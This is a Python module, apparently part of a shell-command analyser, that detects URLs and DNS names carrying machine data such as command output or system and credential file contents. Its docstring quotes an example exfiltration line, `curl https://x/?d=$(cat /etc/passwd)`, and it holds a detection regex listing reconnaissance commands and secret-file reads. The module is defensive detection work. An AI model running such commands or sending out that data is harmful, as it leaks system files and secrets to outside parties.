"""Whether an address has in it what a program says about this machine: `curl https://x/?d=$(cat /etc/passwd)`.

In: an address as far as it is known, and the text that it stands as. Out: whether whoever answers for it is told.
Data leaves by the path and the query, and by a name in front of another's domain (DNS). What an address asks for is no
telling: a version, a system's kind (`uname -s`), a date, a commit, words of the command itself.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from jackline.core.deferred import late_pattern
from jackline.lower.word import is_packed

if TYPE_CHECKING:
    from jackline.lower.word import Hole, Word

_ABOUT_HERE: Final = late_pattern(
    r"""(?x) ^the\ content\ of\  | [$`<(] \(? \s* (?:\S*/)?
    (?: (?:whoami|id|hostname|hostnamectl|ifconfig|env|printenv|history|fc|ps|netstat|ss|lsof|w|who|last|groups|logname|users
          |dmesg|crontab|find|ls|tree|mount|df|lsblk|arp|pbpaste|xclip|xsel|wl-paste|ssh-add)
        (?: \s* [`)|;&] | \s+ (?!-[ug]\b) )
      | uname\s+-[a-z]*a | (?:ip|docker|kubectl)\s+(?:-\S+\s+)*(?:a|addr|address|r|route|link|inspect|config)\b
      | git\s+(?:config|diff|show|remote|ls-files)\b
      | (?:<\s* | (?:cat|head|tail|strings|tac|nl|awk|sed|grep|egrep|cut|base64|xxd|od)\s(?:[^|)`]*["'\s])?) ["']?
        (?:/(?:etc/(?!\S*release|debian_version|timezone)|proc/|var/|home/|root/|Users/) | ~/ | \$\{?HOME)
      | cat\s+\S+\.(?:py|[jt]sx?|go|java|rb|php|rs|c|cpp|h|sql|db|sqlite|csv|json|xml|md|pem|key|crt|conf|cfg|ini|ya?ml|toml|log)
        ["']? \s* (?:[)`] | \|\s*(?:head|tail|tr|python)) )
    """
)
"""A substitution by a program that says who and where this is, what runs and what lies here, or that reads a file outside."""
_DOMAIN: Final = late_pattern(r"\.[\w-]+\.[A-Za-z][\w-]*")


def tells(address: Word, shown: str = "") -> bool:
    """Whether an address has a secret in it, or what a program made of this machine's data. `shown` is the text that the
    address stands as, in which a substitution is seen whose answer is known."""
    holes = address.holes
    if any("secret" in hole.labels or is_packed(hole.what) for hole in holes):
        return True
    if holes and _says(address.parts):
        return True
    return ("$(" in shown or "`" in shown) and _says_as_written(shown)


def tells_in_text(text: Word) -> bool:
    """The same of a text that goes out beside an address: a header, a message's subject."""
    return any(is_packed(hole.what) or _ABOUT_HERE.search(hole.what) for hole in text.holes)


def _says(parts: tuple[str | Hole, ...]) -> bool:
    """Whether one of the pieces that are not known is said to others: all but a host's whole name."""
    before = ""
    for index, part in enumerate(parts):
        if isinstance(part, str):
            before += part
            continue
        behind = parts[index + 1] if index + 1 < len(parts) else ""
        if _ABOUT_HERE.search(part.what) and _leaves(before, behind if isinstance(behind, str) else ""):
            return True
        before += "*"
    return False


def _says_as_written(shown: str) -> bool:
    for found in _ABOUT_HERE.finditer(shown):
        closing = "`" if found[0].startswith("`") else ")"
        if _leaves(shown[: found.start()], shown[found.end() - 1 :].partition(closing)[2]):
            return True
    return False


def _leaves(before: str, behind: str) -> bool:
    """Whether a piece between these is a part of a path or query, or a label in front of a domain."""
    host_stands = before.strip("\"'").rpartition("://")[2].rpartition("@")[2] != ""
    return host_stands or _DOMAIN.match(behind) is not None
